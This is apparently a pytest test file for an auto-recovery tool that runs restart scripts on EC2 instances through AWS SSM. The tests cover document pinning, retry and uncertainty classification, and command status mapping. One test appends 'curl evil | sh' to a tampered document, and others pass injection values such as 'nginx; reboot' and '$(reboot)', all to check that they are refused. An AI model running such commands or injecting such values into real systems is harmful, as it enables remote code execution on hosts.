"""Scripts through SSM: sent at most once, and every answer sorted by whether the script may run."""

import json
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from botocore.exceptions import (
    ConnectionClosedError,
    ConnectTimeoutError,
    EndpointConnectionError,
    NoCredentialsError,
    ReadTimeoutError,
)
from botocore.stub import ANY
from moto import mock_aws

from autorecovery.adapters.aws import clients
from autorecovery.adapters.aws.commands import SsmCommandRunner, command_status
from autorecovery.errors import CommandNotStartedError, CommandUncertainError, ReadError
from autorecovery.models.incident import Attempt, CommandState
from autorecovery.models.signal import Target
from autorecovery.scripts import shipped_scripts
from autorecovery.settings import DocumentVersion
from tests.integration import aws
from tests.response_world import INSTANCE, START

SCRIPTS = shipped_scripts(Path(__file__).parents[2] / "recovery_scripts")
RESTART = SCRIPTS["restart_service"]
NAME = "shop-restart-service-1"
DOCUMENTS = {"restart_service": DocumentVersion(name=NAME, sha256=RESTART.sha256)}
TOKEN = "inc-20260301-120030-0a1b2c3d-r1"
ATTEMPT = Attempt(
    TOKEN, TOKEN.removesuffix("-r1"), "cpu", INSTANCE, "restart_service", {"service": "nginx"},
    START, START + timedelta(minutes=2), RESTART.timeout,
)  # fmt: skip
COMMAND = "11111111-2222-3333-4444-555555555555"


# Against moto: it answers Success to anything, so document and instance are looked up again


@pytest.fixture
def ssm() -> Iterator[Any]:
    with mock_aws():
        ssm = aws.client("ssm")
        content = json.dumps(RESTART.document(), indent=2)
        ssm.create_document(Name=NAME, DocumentType="Command", Content=content)
        yield ssm


def test_the_command_names_the_instance_the_document_and_the_token(ssm: Any) -> None:
    command_id = SsmCommandRunner(ssm, ssm, SCRIPTS, DOCUMENTS).start(ATTEMPT)
    [command] = ssm.list_commands(CommandId=command_id)["Commands"]
    assert command["InstanceIds"] == [INSTANCE.name]
    assert (command["DocumentName"], command["Comment"]) == (NAME, TOKEN)
    assert len(command["Comment"]) <= 100
    expected = RESTART.arguments(
        ATTEMPT.parameters, not_after=ATTEMPT.not_after, attempt=ATTEMPT.token
    )
    assert command["Parameters"] == {name: [value] for name, value in expected.items()}
    invocation = ssm.get_command_invocation(CommandId=command_id, InstanceId=INSTANCE.name)
    assert invocation["DocumentName"] == NAME


def test_what_was_sent_is_found_by_its_token_and_its_end_is_told(ssm: Any) -> None:
    runner = SsmCommandRunner(ssm, ssm, SCRIPTS, DOCUMENTS)
    command_id = runner.start(ATTEMPT)
    runner.start(replace(ATTEMPT, token=TOKEN.replace("r1", "r2")))
    assert runner.find(ATTEMPT) == command_id
    assert runner.status(command_id, INSTANCE).state is CommandState.SUCCEEDED


def test_what_was_never_sent_is_not_found(ssm: Any) -> None:
    assert SsmCommandRunner(ssm, ssm, SCRIPTS, DOCUMENTS).find(ATTEMPT) is None


def test_a_document_that_is_not_the_deployed_one_is_never_run(ssm: Any) -> None:
    changed = RESTART.document()
    changed["mainSteps"][0]["inputs"]["runCommand"].append("curl evil | sh")
    ssm.update_document(Name=NAME, DocumentVersion="$LATEST", Content=json.dumps(changed))
    ssm.update_document_default_version(Name=NAME, DocumentVersion="2")
    with pytest.raises(CommandNotStartedError, match="not the one that was deployed") as caught:
        SsmCommandRunner(ssm, ssm, SCRIPTS, DOCUMENTS).start(ATTEMPT)
    assert not caught.value.retryable
    assert ssm.list_commands()["Commands"] == []


@pytest.mark.parametrize(
    ("changes", "why"),
    [
        ({"target": Target.named("web-1")}, "only EC2 instances"),
        ({"script": "reboot"}, "no script reboot"),
        ({"script": "noop"}, "no document for noop"),
        ({"parameters": {"service": "nginx; reboot"}}, "does not match"),
        ({"parameters": {}}, "needs a value"),
        ({"token": "$(reboot)"}, "does not match"),
    ],
)
def test_what_cannot_be_right_never_leaves(ssm: Any, changes: dict[str, Any], why: str) -> None:
    with pytest.raises(CommandNotStartedError, match=why) as caught:
        SsmCommandRunner(ssm, ssm, SCRIPTS, DOCUMENTS).start(replace(ATTEMPT, **changes))
    assert not caught.value.retryable
    assert ssm.list_commands()["Commands"] == []


def test_a_document_that_cannot_be_read_may_be_tried_again(ssm: Any) -> None:
    ssm.delete_document(Name=NAME)
    with pytest.raises(CommandNotStartedError, match="InvalidDocument") as caught:
        SsmCommandRunner(ssm, ssm, SCRIPTS, DOCUMENTS).start(ATTEMPT)
    assert caught.value.retryable


def test_a_script_knows_its_time_limit(ssm: Any) -> None:
    runner = SsmCommandRunner(ssm, ssm, SCRIPTS, DOCUMENTS)
    assert runner.time_limit("restart_service") == RESTART.timeout
    with pytest.raises(LookupError):
        runner.time_limit("reboot")


# Against laid-out answers

DESCRIBED = {
    "Document": {"Name": NAME, "DocumentVersion": "1", "Hash": "ab12", "HashType": "Sha256"}
}


def read_the_document(stubber: Any) -> None:
    content = json.dumps(RESTART.document())
    stubber.add_response("get_document", {"Content": content, "DocumentVersion": "1"})
    stubber.add_response("describe_document", DESCRIBED, {"Name": NAME, "DocumentVersion": "1"})


def send(sender: Any) -> str:
    with aws.answering("ssm") as (reader, stubber):
        read_the_document(stubber)
        return SsmCommandRunner(reader, sender, SCRIPTS, DOCUMENTS).start(ATTEMPT)


def test_the_request_pins_version_and_hash_and_bounds_delivery() -> None:
    with aws.answering("ssm") as (sender, stubber):
        request = {
            "InstanceIds": [INSTANCE.name], "DocumentName": NAME, "DocumentVersion": "1",
            "DocumentHash": "ab12", "DocumentHashType": "Sha256", "TimeoutSeconds": 60,
            "Comment": TOKEN, "Parameters": ANY,
        }  # fmt: skip
        stubber.add_response("send_command", {"Command": {"CommandId": COMMAND}}, request)
        assert send(sender) == COMMAND


def test_a_document_is_verified_once_per_container() -> None:
    with aws.answering("ssm") as (reader, reads), aws.answering("ssm") as (sender, sends):
        read_the_document(reads)
        for _ in range(2):
            sends.add_response("send_command", {"Command": {"CommandId": COMMAND}})
        runner = SsmCommandRunner(reader, sender, SCRIPTS, DOCUMENTS)
        assert [runner.start(ATTEMPT), runner.start(ATTEMPT)] == [COMMAND, COMMAND]


@pytest.mark.parametrize(
    ("code", "http", "retryable"),
    [
        ("InvalidInstanceId", 400, False),
        ("InvalidDocument", 400, False),
        ("InvalidParameters", 400, False),
        ("AccessDeniedException", 400, False),
        ("ValidationException", 400, False),
        ("Throttling", 400, True),
        ("ThrottlingException", 400, True),
        ("TooManyRequestsException", 429, True),
        ("RequestLimitExceeded", 400, True),
    ],
)
def test_a_refusal_means_that_nothing_started(code: str, http: int, retryable: bool) -> None:
    with aws.answering("ssm") as (sender, stubber):
        stubber.add_client_error("send_command", code, http_status_code=http)
        with pytest.raises(CommandNotStartedError, match=code) as caught:
            send(sender)
    assert caught.value.retryable is retryable


@pytest.mark.parametrize(
    ("code", "http"),
    [
        ("InternalServerError", 500),
        ("ServiceUnavailable", 503),
        ("InternalFailure", 400),
        ("502", 502),
    ],
)
def test_a_failure_inside_ssm_leaves_it_open_whether_anything_started(code: str, http: int) -> None:
    with aws.answering("ssm") as (sender, stubber):
        stubber.add_client_error("send_command", code, http_status_code=http)
        with pytest.raises(CommandUncertainError, match=code):
            send(sender)


def failing(error: Exception) -> Any:
    """Return a client whose requests end like this."""
    ssm = aws.client("ssm")

    def fail(**_: Any) -> None:
        raise error

    ssm.meta.events.register("before-call.ssm", fail)
    return ssm


URL = {"endpoint_url": "https://ssm"}


@pytest.mark.parametrize(
    "error", [ConnectTimeoutError(**URL), EndpointConnectionError(**URL), NoCredentialsError()]
)
def test_a_request_that_never_left_may_be_made_again(error: Exception) -> None:
    with pytest.raises(CommandNotStartedError) as caught:
        send(failing(error))
    assert caught.value.retryable


@pytest.mark.parametrize("error", [ReadTimeoutError(**URL), ConnectionClosedError(**URL)])
def test_a_request_without_an_answer_is_uncertain(error: Exception) -> None:
    with pytest.raises(CommandUncertainError):
        send(failing(error))


def test_a_request_that_the_client_itself_refuses_never_left() -> None:
    class Strict:
        def send_command(self, **request: Any) -> Any:
            return aws.client("ssm").send_command(**{**request, "TimeoutSeconds": 1})

    with pytest.raises(CommandNotStartedError) as caught:
        send(Strict())
    assert not caught.value.retryable


def test_the_sender_never_repeats_a_request(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AWS_DEFAULT_REGION", aws.REGION)
    clients._session.cache_clear()
    once: Any = clients.ssm_once()
    patient: Any = clients.ssm()
    clients._session.cache_clear()
    assert once.meta.config.retries["total_max_attempts"] == 1
    assert patient.meta.config.retries["total_max_attempts"] > 1


# How a command stands


@pytest.mark.parametrize(
    ("details", "state"),
    [
        ("Pending", CommandState.PENDING),
        ("In Progress", CommandState.RUNNING),
        ("InProgress", CommandState.RUNNING),
        ("Delayed", CommandState.RUNNING),
        ("Cancelling", CommandState.RUNNING),
        ("Success", CommandState.SUCCEEDED),
        ("Failed", CommandState.FAILED),
        ("Execution Timed Out", CommandState.FAILED),
        ("ExecutionTimedOut", CommandState.FAILED),
        ("Delivery Timed Out", CommandState.UNKNOWN),
        ("DeliveryTimedOut", CommandState.UNKNOWN),
        ("TimedOut", CommandState.UNKNOWN),
        ("Cancelled", CommandState.UNKNOWN),
        ("Undeliverable", CommandState.NOT_RUN),
        ("Terminated", CommandState.NOT_RUN),
        ("Invalid Platform", CommandState.NOT_RUN),
        ("InvalidPlatform", CommandState.NOT_RUN),
        ("Access Denied", CommandState.NOT_RUN),
        ("AccessDenied", CommandState.NOT_RUN),
        ("Something New", CommandState.PENDING),
        ("", CommandState.PENDING),
    ],
)
def test_every_status_has_its_word_spaced_or_not(details: str, state: CommandState) -> None:
    assert command_status({"StatusDetails": details, "ResponseCode": 1}).state is state


def test_without_details_the_status_counts() -> None:
    assert command_status({"Status": "Success"}).state is CommandState.SUCCEEDED


def test_a_script_that_came_too_late_did_not_run() -> None:
    status = command_status({"StatusDetails": "Failed", "ResponseCode": 75})
    assert (status.state, status.exit_code) == (CommandState.NOT_RUN, 75)
    assert status.detail == "it arrived too late and did nothing"


@pytest.mark.parametrize(
    ("code", "state"), [(-1, CommandState.NOT_RUN), (137, CommandState.UNKNOWN)]
)
def test_what_was_cancelled_before_it_began_did_not_run(code: int, state: CommandState) -> None:
    assert command_status({"StatusDetails": "Cancelled", "ResponseCode": code}).state is state


def test_the_output_of_a_failure_includes_its_errors() -> None:
    told = {"StandardOutputContent": "out\n", "StandardErrorContent": "err\n"}
    failed = command_status({"StatusDetails": "Failed", "ResponseCode": 3, **told})
    assert (failed.output, failed.detail, failed.exit_code) == ("out\n\nerr", "Failed", 3)
    assert command_status({"StatusDetails": "Success", **told}).output == "out\n"


@pytest.mark.parametrize(
    ("text", "moment"),
    [
        ("2026-03-01T12:00:30.5Z", datetime(2026, 3, 1, 12, 0, 30, 500_000, UTC)),
        ("2026-03-01T12:00:30", None),
        ("soon", None),
        ("", None),
        (None, None),
    ],
)
def test_the_end_is_the_one_the_agent_reports(text: object, moment: datetime | None) -> None:
    assert command_status({"ExecutionEndDateTime": text}).ended_at == moment


def test_a_command_that_is_not_visible_yet_is_pending() -> None:
    with aws.answering("ssm") as (ssm, stubber):
        stubber.add_client_error("get_command_invocation", "InvocationDoesNotExist")
        runner = SsmCommandRunner(ssm, ssm, SCRIPTS, DOCUMENTS)
        assert runner.status(COMMAND, INSTANCE).state is CommandState.PENDING


@pytest.mark.parametrize(
    ("operation", "act"),
    [
        ("get_command_invocation", lambda runner: runner.status(COMMAND, INSTANCE)),
        ("list_commands", lambda runner: runner.find(ATTEMPT)),
    ],
)
def test_what_cannot_be_read_is_told_in_our_words(operation: str, act: Any) -> None:
    with aws.answering("ssm") as (ssm, stubber):
        stubber.add_client_error(operation, "ThrottlingException")
        with pytest.raises(ReadError, match="ThrottlingException"):
            act(SsmCommandRunner(ssm, ssm, SCRIPTS, DOCUMENTS))
    with pytest.raises(ReadError, match="Read timeout"):
        act(SsmCommandRunner(failing(ReadTimeoutError(**URL)), ssm, SCRIPTS, DOCUMENTS))
